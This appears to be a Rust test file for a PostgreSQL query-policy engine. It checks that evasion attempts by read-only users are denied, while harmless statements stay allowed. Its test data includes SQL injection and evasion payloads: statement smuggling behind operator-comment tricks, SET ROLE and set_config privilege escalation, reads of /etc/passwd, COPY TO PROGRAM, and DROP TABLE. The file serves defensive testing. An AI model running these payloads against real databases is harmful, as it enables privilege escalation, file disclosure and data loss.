            assert!(infos[0].unparsable && infos[0].modifiers.contains(Modifier::Unparsable));
            let fine = format!("SELECT 1{}", " + 1".repeat(1000));
            assert!(!analyze_sql(&fine)[0].unparsable);
            let in_list = format!("SELECT * FROM t WHERE a IN ({})", (0..100_000).map(|i| i.to_string()).collect::<Vec<_>>().join(","));
            assert!(!analyze_sql(&in_list)[0].unparsable, "a long IN list");
        })
        .expect("thread");
    assert!(run.join().is_ok());
    let sql = format!("SELECT 1 /* {} */", "x".repeat(MAX_PARSE_BYTES));
    let infos = analyze_sql(&sql);
    assert_eq!(infos.len(), 1);
    assert!(infos[0].modifiers.contains(Modifier::TooLarge));
    assert!(infos[0].text.len() < 300);
}

/// Decisions checked together: every one that differs from what is wanted is collected, and
/// all are reported at the end.
#[derive(Default)]
struct Decisions(Vec<String>);

impl Decisions {
    /// `sql` as `who` must be decided `want`, by one of `rules` (empty: any rule).
    fn expect(&mut self, p: &Policy, who: &Identity, sql: &str, want: Action, rules: &[&str]) {
        let v = p.decide(who, "app", sql, noon());
        if v.decision != want || !(rules.is_empty() || rules.contains(&v.rule.as_str())) {
            self.0.push(format!("{}: {sql:?}: {:?} by {} (want {want:?} by {rules:?})", who.user, v.decision, v.rule));
        }
    }

    fn assert_all_met(self) {
        assert!(self.0.is_empty(), "{}", self.0.join("\n"));
    }
}

/// Attempts to walk past the engine with a read-only identity: statements Postgres runs that a
/// parser reading differently would have taken for a harmless SELECT, and identity or lexical
/// changes in positions a select-list check would miss. Every one must be denied (the rule
/// varies: built-in, or the analysts' default deny).
#[test]
fn evasion_attempts_are_denied() {
    let ex = example();
    let dflt = default_policy();
    let analyst = id("ann", A);
    let anyone = id("eve", NONE);
    #[rustfmt::skip]
    let builtin: &[(&str, &str)] = &[
        // operator followed by a comment start: Postgres ends the operator there
        ("SELECT 1 #-- '\n2; RESET ROLE", "builtin:identity-change"),
        ("SELECT 1 |/* x */ 2; SET ROLE postgres", "builtin:identity-change"),
        ("SELECT 1 >>-- '\n2; SET SESSION AUTHORIZATION postgres", "builtin:identity-change"),
        ("SELECT 1 @-- '\n; DISCARD ALL", "builtin:identity-change"),
        ("SELECT true &&/* '*/ true; SET standard_conforming_strings = off", "builtin:protected-setting"),
        // set_config wherever a function can be called
        ("SELECT * FROM set_config('role', 'postgres', false)", "builtin:identity-change"),
        ("SELECT * FROM t, LATERAL set_config('role', 'x', false) s", "builtin:identity-change"),
        ("SELECT EXISTS (SELECT set_config('session_authorization', 'x', false))", "builtin:identity-change"),
        ("COPY (SELECT set_config('role', 'x', false)) TO STDOUT", "builtin:identity-change"),
        ("PREPARE p AS SELECT * FROM set_config('role', 'x', false)", "builtin:identity-change"),
        ("WITH c AS (SELECT set_config('role', 'x', false)) SELECT * FROM c", "builtin:identity-change"),
        ("SELECT (SELECT x FROM set_config('role', 'x', true) x)", "builtin:identity-change"),
        ("SELECT set_config(name => 'role', value => 'x', is_local => false)", "builtin:identity-change"),
        ("SELECT pg_catalog.set_config(lower('ROLE'), 'x', false)", "builtin:identity-change"),
        ("SELECT set_config(VARIADIC ARRAY['role','x'])", "builtin:identity-change"),
        ("INSERT INTO t VALUES (1) RETURNING set_config('role', 'x', false)", "builtin:identity-change"),
        ("CREATE TABLE t2 (a text DEFAULT set_config('role', 'x', false))", "builtin:identity-change"),
        ("CREATE INDEX ON t ((set_config('role', a, false)))", "builtin:identity-change"),
        ("SELECT * FROM set_config('standard_conforming_strings', 'off', false)", "builtin:protected-setting"),
        ("SELECT set_config('client_encoding', 'LATIN1', false)", "builtin:protected-setting"),
        ("SELECT set_config('backslash_quote', 'on', false)", "builtin:protected-setting"),
        // lexical settings by any statement
        ("SET client_encoding = 'SJIS'", "builtin:protected-setting"),
        ("SET NAMES 'LATIN1'", "builtin:protected-setting"),
        ("SET LOCAL standard_conforming_strings TO off", "builtin:protected-setting"),
        ("SET standard_conforming_strings FROM CURRENT", "builtin:protected-setting"),
        ("SET backslash_quote = on", "builtin:protected-setting"),
        ("ALTER ROLE CURRENT_USER SET standard_conforming_strings = off", "builtin:protected-setting"),
        ("ALTER DATABASE app SET client_encoding = 'BIG5'", "builtin:protected-setting"),
        ("ALTER SYSTEM SET standard_conforming_strings = off", "builtin:protected-setting"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'postgres' AS 'SELECT 1'", "builtin:identity-change"),
        ("ALTER FUNCTION f() SET session_authorization = 'postgres'", "builtin:identity-change"),
        ("ALTER ROLE CURRENT_USER SET role = 'postgres'", "builtin:identity-change"),
        ("UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", "builtin:identity-change"),
        ("SET SESSION ROLE NONE", "builtin:identity-change"),
        ("RESET SESSION AUTHORIZATION", "builtin:identity-change"),
        ("DO $$BEGIN PERFORM set_config('role', 'postgres', false); END$$", "builtin:identity-change"),
        // set_config bound by DDL, to be called later under another name
        ("CREATE AGGREGATE a(text, bool) (sfunc = set_config, stype = text, initcond = 'role')", "builtin:identity-change"),
        ("CREATE AGGREGATE a(text, bool) (SFUNC = pg_catalog.set_config, STYPE = text)", "builtin:identity-change"),
        ("CREATE AGGREGATE a(text, bool) (sfunc = 'set_config', stype = text)", "builtin:identity-change"),
        ("CREATE AGGREGATE a (basetype = text, sfunc1 = set_config, stype1 = text)", "builtin:identity-change"),
        ("CREATE AGGREGATE a(text) (sfunc = textcat, stype = text, finalfunc = set_config)", "builtin:identity-change"),
        ("CREATE CAST (t AS text) WITH FUNCTION set_config(text, text, bool)", "builtin:identity-change"),
    ];
    let mut d = Decisions::default();
    for (sql, rule) in builtin {
        // The example policy may deny by its own rule first (analysts: one statement per
        // string); the default policy leaves only the built-in denial.
        d.expect(&ex, &analyst, sql, Deny, &[]);
        d.expect(&dflt, &anyone, sql, Deny, &[rule]);
    }
    d.assert_all_met();
}

/// Server functions bound by DDL for Postgres to call later without naming them (operators,
/// aggregates, casts, types, conversions, handlers, operator classes, internal functions) are
/// decided as calls by the statement that binds them; binding an ordinary built-in is not.
#[test]
fn functions_bound_by_ddl_are_decided_as_calls() {
    let dflt = default_policy();
    let anyone = id("eve", NONE);
    #[rustfmt::skip]
    let bound: &[&str] = &[
        "CREATE OPERATOR public.=== (function = pg_terminate_backend, leftarg = int4, rightarg = int8)",
        "CREATE OPERATOR ### (PROCEDURE = pg_catalog.pg_read_file, RIGHTARG = text)",
        "CREATE OPERATOR ### (procedure = 'pg_read_file', rightarg = text)",
        "ALTER OPERATOR === (int4, int8) SET (RESTRICT = pg_terminate_backend)",
        "CREATE AGGREGATE rf(int8, int8) (sfunc = pg_read_file, stype = text, initcond = '/etc/passwd')",
        "CREATE AGGREGATE k(int8) (sfunc = int4pl, stype = int4, finalfunc = pg_cancel_backend)",
        "CREATE CAST (int4 AS bool) WITH FUNCTION pg_terminate_backend(int4)",
        "CREATE TYPE r AS RANGE (subtype = float8, subtype_diff = pg_terminate_backend)",
        "CREATE TYPE b (input = lo_import, output = textout)",
        "ALTER TYPE b SET (receive = lo_import)",
        "CREATE CONVERSION c FOR 'LATIN1' TO 'UTF8' FROM pg_read_file",
        "CREATE OPERATOR CLASS oc FOR TYPE int4 USING btree AS FUNCTION 1 pg_terminate_backend(int4, int4)",
        "ALTER OPERATOR FAMILY f USING btree ADD FUNCTION 1 (int4, int4) pg_terminate_backend(int4, int4)",
        "CREATE FOREIGN DATA WRAPPER w HANDLER dblink_fdw_validator",
        "CREATE FUNCTION k(int4, int8) RETURNS bool LANGUAGE internal AS 'pg_terminate_backend'",
        "CREATE FUNCTION k(int4, int8) RETURNS bool LANGUAGE c AS '$libdir/dblink', 'dblink_exec'",
    ];
    let mut d = Decisions::default();
    for sql in bound {
        d.expect(&dflt, &anyone, sql, Deny, &["no-server-functions", "no-dynamic-sql-functions"]);
    }
    #[rustfmt::skip]
    let harmless: &[&str] = &[
        "CREATE OPERATOR public.#+# (function = int4pl, leftarg = int4, rightarg = int4)",
        "CREATE AGGREGATE s(int4) (sfunc = int4pl, stype = int4)",
        "CREATE TYPE r AS RANGE (subtype = float8, subtype_diff = float8mi)",
        "EXPLAIN (ANALYZE true, VERBOSE) SELECT 1",
    ];
    for sql in harmless {
        d.expect(&dflt, &anyone, sql, Allow, &[]);
    }
    d.assert_all_met();
}

/// What a read-only analyst must not get through: writes and server access dressed as reads.
#[test]
fn writes_dressed_as_reads_are_denied() {
    let ex = example();
    let analyst = id("ann", A);
    #[rustfmt::skip]
    let writes: &[&str] = &[
        "SELECT 1 #-- '\n2; DELETE FROM orders",
        "SELECT 1 >-- '\n; COPY orders TO PROGRAM 'id'",
        "SELECT 1 |/* '*/ 2; GRANT ALL ON orders TO PUBLIC",
        "SELECT 1 END; DROP TABLE orders",
        "SELECT U&\"\\0070g_read_file\"('/etc/passwd')",
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT * FROM orders, LATERAL pg_ls_dir('.') d",
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        "SELECT * FROM orders FOR UPDATE",
        "EXPLAIN ANALYZE DELETE FROM orders",
        "SELECT 1; SELECT * INTO copy_of_orders FROM orders",
        "COPY (SELECT 1) TO '/tmp/x'",
        "SELECT lo_import('/etc/passwd')",
        "DECLARE c CURSOR FOR SELECT pg_terminate_backend(1)",
    ];
    let mut d = Decisions::default();
    for sql in writes {
        d.expect(&ex, &analyst, sql, Deny, &[]);
    }
    d.assert_all_met();
}

/// SQL built at run time inside a body: denied to non-admins by the default policy, whatever
/// the string pieces say; a constant EXECUTE is read like any statement.
#[test]
fn sql_built_at_run_time_is_denied() {
    let dflt = default_policy();
    let anyone = id("eve", NONE);
    let mut d = Decisions::default();
    for sql in [
        "DO $$BEGIN EXECUTE 'SE' || 'T ROLE postgres'; END$$",
        "DO $$DECLARE r text := 'ROLE'; BEGIN EXECUTE format('SET %s postgres', r); END$$",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE 'RESET ' || 'ROLE'; END$$",
        "CREATE PROCEDURE p() LANGUAGE plpgsql AS 'BEGIN OPEN c FOR EXECUTE q; END'",
        "SELECT query_to_xml('SELECT 1', true, false, '')",
    ] {
        d.expect(&dflt, &anyone, sql, Deny, &["no-dynamic-sql", "no-dynamic-sql-functions"]);
        d.expect(&dflt, &id("root", &["pgward_admins"]), sql, Allow, &[]);
    }
    for sql in [
        "DO $$BEGIN EXECUTE 'SET ROLE postgres'; END$$",
        "DO $$DECLARE r text := 'postgres'; BEGIN EXECUTE format('SET ROLE %I', r); END$$",
        "CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE 'SELECT set_config(''role'', ''x'', false)'; END$$",
        // Built-ins that run their text argument: a constant text is read like a constant
        // EXECUTE, and an identity change in it is denied to admins too.
        "SELECT query_to_xml('SET ROLE postgres', true, false, '')",
        "SELECT pg_catalog.query_to_xmlschema('select set_config(''role'', ''x'', false)', true, false, '')",
        "SELECT * FROM ts_stat('RESET ROLE')",
    ] {
        d.expect(&dflt, &anyone, sql, Deny, &["builtin:identity-change"]);
        d.expect(&dflt, &id("root", &["pgward_admins"]), sql, Deny, &["builtin:identity-change"]);
    }
    d.expect(&dflt, &anyone, "DO $$BEGIN EXECUTE 'SELECT 1' INTO x; INSERT INTO t(a) VALUES (1); END$$", Allow, &[]);
    d.assert_all_met();
}

/// Things that stay allowed: keeping a setting at the value pgward parses with.
#[test]
fn keeping_lexical_settings_is_allowed() {
    let dflt = default_policy();
    let anyone = id("eve", NONE);
    let mut d = Decisions::default();
    for sql in [
        "SET standard_conforming_strings = on",
        "SET client_encoding = 'UTF8'",
        "SET NAMES 'utf-8'",
        "RESET client_encoding",
        "SELECT set_config('application_name', 'x', false)",
        "SELECT 'set role x', $$RESET ROLE$$",
    ] {
        d.expect(&dflt, &anyone, sql, Allow, &[]);
    }
    d.assert_all_met();
}

/// Rules naming catalog function classes: decided with the database's catalog; a function the
/// catalog does not know, or a database without a catalog, is in every class (fail closed).
#[test]
fn catalog_function_classes() {
    use super::functions::{FunctionCatalog, ProcRow};
    let p = Policy::from_toml(
        "classes.toml",
        r#"
[defaults]
action = "allow"

[[rule]]
name = "no-dynamic-or-outside"
action = "deny"
except_groups = ["dba"]
functions = ["@dynamic_sql", "@outside"]
reason = "functions that run SQL from text or reach outside the database"
"#,
    )
    .unwrap();
    assert!(p.uses_function_classes());
    let row = |name: &str, vol: &str, lang: &str, symbol: Option<&str>, executes: bool| ProcRow {
        schema: "pg_catalog".into(),
        name: name.into(),
        volatility: vol.chars().next().unwrap(),
        language: lang.into(),
        language_trusted: lang != "internal",
        symbol: symbol.map(str::to_string),
        executes,
        ..Default::default()
    };
    let who = id("ann", A);
    let deny = |db: &str, sql: &str| p.decide(&who, db, sql, noon()).decision == Deny;
    // No catalog yet: every function is in every class.
    assert!(deny("app", "SELECT lower('x')"));
    assert!(!deny("app", "SELECT 1"), "no function, no class");
    p.set_function_catalog(
        "app",
        FunctionCatalog::from_rows([
            row("lower", "i", "internal", Some("lower"), false),
            row("ts_stat", "v", "internal", Some("ts_stat1"), false),
            row("query_to_xml", "s", "internal", Some("query_to_xml"), false),
            row("pg_ls_dir", "v", "internal", Some("pg_ls_dir_1arg"), false),
            row("lo_get", "v", "internal", Some("be_lo_get"), false),
            row("run_any", "v", "plpgsql", None, true),
            row("plain", "v", "plpgsql", None, false),
        ]),
    );
    assert!(!deny("app", "SELECT lower('x')"));
    assert!(!deny("app", "SELECT plain()"));
    for sql in [
        "SELECT * FROM ts_stat('SELECT v FROM secrets')",
        "SELECT query_to_xml('select * from secrets', true, false, '')",
        "SELECT x FROM t, LATERAL pg_ls_dir('.') x",
        "SELECT lo_get(42)",
        "SELECT run_any('DELETE FROM t')",
        "SELECT made_up_since(1)",
        "WITH c AS (SELECT pg_catalog.ts_stat('x')) SELECT * FROM c",
    ] {
        assert!(deny("app", sql), "{sql}");
    }
    // Another database has its own catalog (none yet: fail closed); dba is exempt.
    assert!(deny("elsewhere", "SELECT lower('x')"));
    // The real PostgreSQL 15 catalog: the functions of the issue's attacks are classed.
    p.set_function_catalog("pg15", pg15_catalog());
    for (sql, denied) in [
        ("SELECT * FROM ts_stat('SELECT v FROM secrets')", true),
        ("SELECT ts_rewrite('a'::tsquery, 'SELECT * FROM aliases')", true),
        ("SELECT pg_read_file('/etc/passwd')", true),
        ("SELECT lo_import('/etc/passwd')", true),
        ("SELECT table_to_xml('secrets', true, false, '')", true),
        ("SELECT lower(name), count(*), now() FROM t GROUP BY 1", false),
        // Classes are per name: every overload of ts_rewrite has the (text) one's.
        ("SELECT ts_rewrite('a'::tsquery, 'b'::tsquery, 'c'::tsquery)", true),
    ] {
        assert_eq!(deny("pg15", sql), denied, "{sql}");
    }
    assert_eq!(p.decide(&id("d", DBA), "app", "SELECT run_any('x')", noon()).decision, Allow);
    // A new catalog is seen at once by cached verdicts.
    assert!(!deny("app", "SELECT plain()"));
    p.set_function_catalog("app", FunctionCatalog::from_rows([row("plain", "v", "plpgsql", None, true)]));
    assert!(deny("app", "SELECT plain()"));
    // Classes are for deny rules.
    let bad = Policy::from_toml("b.toml", "[[rule]]\nname = \"a\"\naction = \"allow\"\nfunctions = [\"@volatile\"]\n");
    assert!(bad.is_err());
}


#[test]
fn schemas_named_by_grants_and_default_privileges() {
    for sql in ["GRANT SELECT ON ALL TABLES IN SCHEMA hr TO x", "ALTER DEFAULT PRIVILEGES IN SCHEMA HR GRANT SELECT ON TABLES TO x"] {
        let infos = analyze_sql(sql);
        assert_eq!(infos[0].schemas, vec!["hr".to_string()], "{sql}");
    }
}

#[test]
fn table_and_schema_rules_see_what_bodies_name() {
    let toml = r#"
version = 1
[defaults]
action = "allow"

[[rule]]
name = "no-salaries"
action = "deny"
tables = ["hr.salaries"]

[[rule]]
name = "no-payroll"
action = "deny"
schemas = ["payroll"]
"#;
    let p = with_catalogs(Policy::from_toml("bodies.toml", toml).expect("compiles"));
    let who = id("e", E);
    let cases = [
        // A string body names the table as a BEGIN ATOMIC body does.
        ("CREATE FUNCTION peek() RETURNS text LANGUAGE sql AS 'SELECT string_agg(amount::text, '','') FROM salaries'", Deny, "no-salaries"),
        ("CREATE FUNCTION peek() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT string_agg(amount::text, ',') FROM salaries; END", Deny, "no-salaries"),
        ("CREATE PROCEDURE p() LANGUAGE plpgsql AS $b$BEGIN DELETE FROM Salaries; END$b$", Deny, "no-salaries"),
        ("DO $$BEGIN PERFORM 1 FROM hr.salaries; END$$", Deny, "no-salaries"),
        ("DO $$BEGIN PERFORM count(*) FROM payroll.runs; END$$", Deny, "no-payroll"),
        ("CREATE FUNCTION fine() RETURNS bigint LANGUAGE sql AS 'SELECT count(*) FROM orders'", Allow, "default"),
        ("DO $$BEGIN PERFORM count(*) FROM orders; END$$", Allow, "default"),
    ];
    for (sql, decision, rule) in cases {
        let v = p.decide(&who, "app", sql, noon());
        assert_eq!((v.decision, v.rule.as_str()), (decision, rule), "{sql}");
    }
}

#[test]
fn select_into_is_a_create_table_for_command_rules() {
    let toml = r#"
version = 1
[defaults]
action = "allow"

[[rule]]
name = "no-new-tables"
action = "deny"
commands = ["create table"]
"#;
    let p = with_catalogs(Policy::from_toml("commands.toml", toml).expect("compiles"));
    for sql in ["CREATE TABLE t2 AS SELECT 1", "SELECT 1 AS x INTO t2", "WITH w AS (SELECT 1) SELECT * INTO TEMP t2 FROM w", "CREATE TABLE t2 (x int)"] {
        let v = p.decide(&id("e", E), "app", sql, noon());
        assert_eq!((v.decision, v.rule.as_str()), (Deny, "no-new-tables"), "{sql}");
    }
    let v = p.decide(&id("e", E), "app", "SELECT 1 AS x", noon());
    assert_eq!(v.decision, Allow);
}
